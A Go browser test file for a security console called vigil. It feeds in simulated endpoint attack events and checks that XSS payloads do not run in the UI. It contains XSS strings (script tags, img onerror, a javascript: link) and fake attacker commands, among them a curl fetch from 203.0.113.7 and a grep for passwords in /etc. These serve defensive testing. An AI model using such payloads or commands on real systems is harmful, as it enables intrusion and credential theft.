package console_test

// Browser tests: the console driven in a real headless Chromium (Debian's
// chromium package, which .ci/run installs) through chromedp, against a
// real in-process `vigil serve` holding the sample data. One browser serves
// every test of the file. They skip when no Chromium binary is found.

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"vigil/internal/config"
	"vigil/internal/engine"
	"vigil/internal/esql"
	"vigil/internal/rule"
	"vigil/internal/server"
)

const (
	testToken = "console-browser-test-token"
	testUser  = "analyst"
	index     = "logs-endpoint.events.process-default"
	// The XSS payloads: a command line and a host's parent process name.
	imgPayload    = `<img src=x onerror=alert(1)>`
	scriptPayload = `</td><script>alert(2)</script>`
)

var browser struct {
	once   sync.Once
	ctx    context.Context // the browser's first tab
	cancel func()
	err    error
}

func TestMain(m *testing.M) {
	code := m.Run()
	if browser.cancel != nil {
		browser.cancel()
	}
	os.Exit(code)
}

// chromium finds a Chromium binary ($VIGIL_CHROMIUM first).
func chromium() string {
	if p := os.Getenv("VIGIL_CHROMIUM"); p != "" {
		return p
	}
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	return ""
}

// tab returns a new tab of the shared browser, started on first use.
func tab(t *testing.T) context.Context {
	t.Helper()
	path := chromium()
	if path == "" {
		t.Skip("no chromium binary (apt-get install chromium; .ci/run does)")
	}
	browser.once.Do(func() {
		dir, err := os.MkdirTemp("", "vigil-chromium-")
		if err != nil {
			browser.err = err
			return
		}
		opts := []chromedp.ExecAllocatorOption{
			chromedp.ExecPath(path), chromedp.UserDataDir(dir), chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU,
			chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck, chromedp.WindowSize(1400, 1000),
			chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
			chromedp.Flag("disable-sync", true), chromedp.Flag("disable-extensions", true),
		}
		actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
		bctx, cancelBrowser := chromedp.NewContext(actx)
		browser.ctx = bctx
		browser.cancel = func() { cancelBrowser(); cancelAlloc(); os.RemoveAll(dir) }
		browser.err = chromedp.Do(bctx)
	})
	if browser.err != nil {
		t.Fatalf("starting chromium: %v", browser.err)
	}
	ctx, cancel := chromedp.NewContext(browser.ctx)
	t.Cleanup(cancel)
	ctx, cancelT := context.WithTimeout(ctx, 60*time.Second)
	t.Cleanup(cancelT)
	return ctx
}

// pageEvents records what a page does that the tests forbid: dialogs
// (alert() from an injected script), console messages, uncaught
// exceptions, log entries (CSP violations are logged) and the
// securitypolicyviolation events the page fires.
type pageEvents struct {
	mu                           sync.Mutex
	dialogs, console, exceptions []string
	logs                         []string
}

func (p *pageEvents) add(list *[]string, s string) {
	p.mu.Lock()
	*list = append(*list, s)
	p.mu.Unlock()
}

func (p *pageEvents) snapshot() (dialogs, console, exceptions, logs []string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.dialogs...), append([]string(nil), p.console...), append([]string(nil), p.exceptions...), append([]string(nil), p.logs...)
}

var evidenceURL = regexp.MustCompile(`/api/alerts/[^/]+/(events|tree|timeline)`)

// cspScript runs before the page's own scripts (the DevTools protocol is
// not subject to the page's CSP) and records CSP violations.
const cspScript = `window.__csp = []; document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));`

func watch(t *testing.T, ctx context.Context) *pageEvents {
	t.Helper()
	ev := &pageEvents{}
	err := chromedp.Listen(ctx, func(e any) {
		switch e := e.(type) {
		case *page.EventJavascriptDialogOpening:
			ev.add(&ev.dialogs, e.Message)
			// Dismissed from another goroutine: a listener must not call.
			go chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{})
		case *runtime.EventConsoleAPICalled:
			var args []string
			for _, a := range e.Args {
				args = append(args, string(a.Value)+a.Description)
			}
			ev.add(&ev.console, string(e.Type)+": "+strings.Join(args, " "))
		case *runtime.EventExceptionThrown:
			ev.add(&ev.exceptions, e.ExceptionDetails.Text+" "+exceptionText(e.ExceptionDetails))
		case *log.EventEntryAdded:
			if e.Entry.Source == log.EntrySourceNetwork && evidenceURL.MatchString(e.Entry.URL) && strings.Contains(e.Entry.Text, "404") {
				return // evidence endpoints absent before the evidence branch: the page says so
			}
			ev.add(&ev.logs, string(e.Entry.Source)+" "+string(e.Entry.Level)+": "+e.Entry.Text+" "+e.Entry.URL)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(ctx, log.Enable, cdp.Empty{}); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: cspScript}); err != nil {
		t.Fatal(err)
	}
	return ev
}

func exceptionText(d *runtime.ExceptionDetails) string {
	if d.Exception != nil {
		return d.Exception.Description
	}
	return ""
}

// vigil is a running service with the sample data and the XSS attack.
type vigil struct {
	srv *server.Server
	url string
}

func startVigil(t *testing.T) *vigil {
	t.Helper()
	cfg := config.Default()
	cfg.Listen = "127.0.0.1:0"
	cfg.DataDir = t.TempDir()
	cfg.Auth.Token, cfg.Auth.User = testToken, testUser
	cfg.AllowedLateness.Duration = 3 * time.Hour
	if err := cfg.Validate(); err != nil {
		t.Fatal(err)
	}
	srv, err := server.New(server.Options{Config: cfg, Rules: rules(t), Version: "test", EvalInterval: 20 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(ln)
	v := &vigil{srv: srv, url: "http://" + ln.Addr().String()}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		srv.Shutdown(ctx)
	})
	for deadline := time.Now().Add(10 * time.Second); ; {
		if code, body := v.get(t, "/healthz"); code == 200 && strings.Contains(body, `"ok"`) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("vigil serve did not become ready")
		}
		time.Sleep(10 * time.Millisecond)
	}
	v.ingest(t, slices.Concat(sampleEvents(t), xssAttack(), investigated()))
	return v
}

// ingest posts NDJSON events and waits until they are evaluated.
func (v *vigil) ingest(t *testing.T, body []byte) {
	t.Helper()
	req, _ := http.NewRequest("POST", v.url+"/api/events?index="+index, bytes.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+testToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("ingest: %d %s", resp.StatusCode, b)
	}
	v.srv.Sync()
}

// rules are the seed rule and a copy of it, restricted to the XSS host,
// whose name and guide carry script payloads.
func rules(t *testing.T) []*engine.CompiledRule {
	t.Helper()
	seed := rule.Builtin()[0]
	xss := *seed
	xss.RuleID, xss.Name = "xss-guide-rule", "Guide with <script>alert(3)</script>"
	xss.Note = "## Guide\n\n<script>alert(4)</script>\n\n" + imgPayload + " in a paragraph, **bold <b>not html</b>**.\n\n" +
		"- [a javascript: link](javascript:alert(5))\n- [an http link](https://example.com/x)\n"
	xss.Query = strings.Replace(seed.Query, "| WHERE host.os.type", `| WHERE host.name == "xss-host" and host.os.type`, 1)
	if xss.Query == seed.Query {
		t.Fatal("seed rule query changed: cannot restrict the XSS copy")
	}
	var out []*engine.CompiledRule
	for _, r := range []*rule.Rule{seed, &xss} {
		cr, err := engine.Compile(r, &engine.Catalog{}, esql.Options{})
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, cr)
	}
	return out
}

func sampleEvents(t *testing.T) []byte {
	t.Helper()
	f, err := os.Open("../../examples/sample-events.ndjson.gz")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	gz, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(bufio.NewReader(gz))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// investigatedHost holds the attack TestConsole investigates: attack's
// lineage and seven shells, a tree whose every node has its own event.
const investigatedHost = "jump-04"

func investigated() []byte {
	return attack(investigatedHost, time.Date(2026, 11, 20, 9, 50, 0, 0, time.UTC),
		"whoami", "uname -a", "id", "env | sort", "find / -perm -4000", "curl -s http://203.0.113.7/x", "grep -r pw /etc")
}

// xssAttack is the seed rule's attack on xss-host, two of whose command
// lines are markup.
func xssAttack() []byte {
	return attack("xss-host", time.Date(2026, 11, 20, 9, 30, 0, 0, time.UTC),
		"whoami", "uname -a", "id", "env | sort", "find / -perm -4000", imgPayload+" curl x", scriptPayload+" grep -r pw /etc")
}

// attack is the seed rule's attack on host as Elastic Defend records it:
// the exec events of the Python parent's lineage (systemd → sshd → bash,
// before base) and of the parent itself, then seven shell children running
// cmds from base on, a second apart, each with the full ancestry (parent
// first).
func attack(host string, base time.Time, cmds ...string) []byte {
	type proc struct {
		id, name, exe, user string
		args                []string
		pid                 int
	}
	lineage := []proc{
		{host + "-systemd", "systemd", "/usr/lib/systemd/systemd", "root", []string{"/sbin/init"}, 1},
		{host + "-sshd", "sshd", "/usr/sbin/sshd", "root", []string{"/usr/sbin/sshd", "-D"}, 812},
		{host + "-bash", "bash", "/bin/bash", "dev", []string{"-bash"}, 4100},
		{host + "-parent", "python3", "/usr/bin/python3", "dev", []string{"python3", "/tmp/.x/agent.py"}, 4200},
	}
	fields := func(p proc) map[string]any {
		return map[string]any{"entity_id": p.id, "name": p.name, "executable": p.exe, "pid": p.pid,
			"args": p.args, "command_line": strings.Join(p.args, " "), "user": map[string]any{"name": p.user}}
	}
	var b bytes.Buffer
	event := func(t time.Time, p proc, ancestors []proc) {
		pf := fields(p)
		var ancestry []string
		for i := len(ancestors) - 1; i >= 0; i-- {
			ancestry = append(ancestry, ancestors[i].id)
		}
		if len(ancestors) > 0 {
			pf["parent"] = fields(ancestors[len(ancestors)-1])
			pf["Ext"] = map[string]any{"ancestry": ancestry}
		}
		m := map[string]any{
			"@timestamp":  t.Format("2006-01-02T15:04:05.000Z"),
			"data_stream": map[string]any{"type": "logs", "dataset": "endpoint.events.process", "namespace": "default"},
			"event":       map[string]any{"action": "exec", "type": []string{"start"}, "category": []string{"process"}, "dataset": "endpoint.events.process"},
			"host":        map[string]any{"name": host, "os": map[string]any{"type": "linux"}},
			"agent":       map[string]any{"id": "agent-" + host},
			"user":        map[string]any{"name": p.user},
			"process":     pf,
		}
		line, _ := json.Marshal(m)
		b.Write(line)
		b.WriteByte('\n')
	}
	for i, p := range lineage {
		event(base.Add(time.Duration(i-len(lineage))*time.Minute), p, lineage[:i])
	}
	for i, c := range cmds {
		event(base.Add(time.Duration(i)*time.Second),
			proc{fmt.Sprintf("%s-child-%d", host, i), "sh", "/bin/sh", "dev", []string{"sh", "-c", c}, 5000 + i}, lineage)
	}
	return b.Bytes()
}

func (v *vigil) get(t *testing.T, path string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest("GET", v.url+path, nil)
	req.Header.Set("Authorization", "Bearer "+testToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// shots writes numbered screenshots under the test's temp dir
// ($VIGIL_SCREENSHOTS: there instead, to refresh docs/).
type shots struct {
	dir string
	n   int
}

func newShots(t *testing.T) *shots {
	dir := os.Getenv("VIGIL_SCREENSHOTS")
	if dir == "" {
		dir = t.TempDir()
	}
	return &shots{dir: dir}
}

func (s *shots) take(t *testing.T, ctx context.Context, name string) {
	t.Helper()
	buf, err := chromedp.Run(ctx, chromedp.FullScreenshot(100)) // 100: PNG
	if err != nil {
		t.Fatalf("screenshot %s: %v", name, err)
	}
	s.n++
	p := filepath.Join(s.dir, fmt.Sprintf("%02d-%s.png", s.n, name))
	if err := os.WriteFile(p, buf, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("screenshot %s", p)
}

// eval evaluates a JavaScript expression in the page (DevTools, not the
// page's CSP) into out.
func eval[T any](t *testing.T, ctx context.Context, expr string) T {
	t.Helper()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expr))
	if err != nil {
		t.Fatalf("%s: %v", expr, err)
	}
	return v
}

// waitTrue polls a JavaScript condition (no fixed sleeps: the condition is
// what the test waits for). The condition must not throw (a throw ends the
// poll): guard elements that may not exist yet.
func waitTrue(t *testing.T, ctx context.Context, what, expr string) {
	t.Helper()
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](expr, chromedp.WithPollingInterval(20*time.Millisecond), chromedp.WithPollingTimeout(10*time.Second))); err != nil {
		html, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.getElementById('main').innerText`))
		t.Fatalf("waiting for %s: %v\npage: %s", what, err, html)
	}
}

func run(t *testing.T, ctx context.Context, what string, actions ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	if err := chromedp.Do(ctx, actions...); err != nil {
		t.Fatalf("%s: %v", what, err)
	}
}

// clean checks that the page raised no dialog, exception, console error
// or CSP violation.
func clean(t *testing.T, ctx context.Context, ev *pageEvents) {
	t.Helper()
	csp := eval[[]string](t, ctx, `window.__csp || []`)
	dialogs, console, exceptions, logs := ev.snapshot()
	if len(dialogs) > 0 || len(exceptions) > 0 || len(csp) > 0 {
		t.Errorf("scripts ran or failed: dialogs %q, exceptions %q, CSP violations %q", dialogs, exceptions, csp)
	}
	for _, c := range append(console, logs...) {
		if strings.Contains(c, "Content Security Policy") || strings.Contains(strings.ToLower(c), "error") {
			t.Errorf("console: %s", c)
		}
	}
}
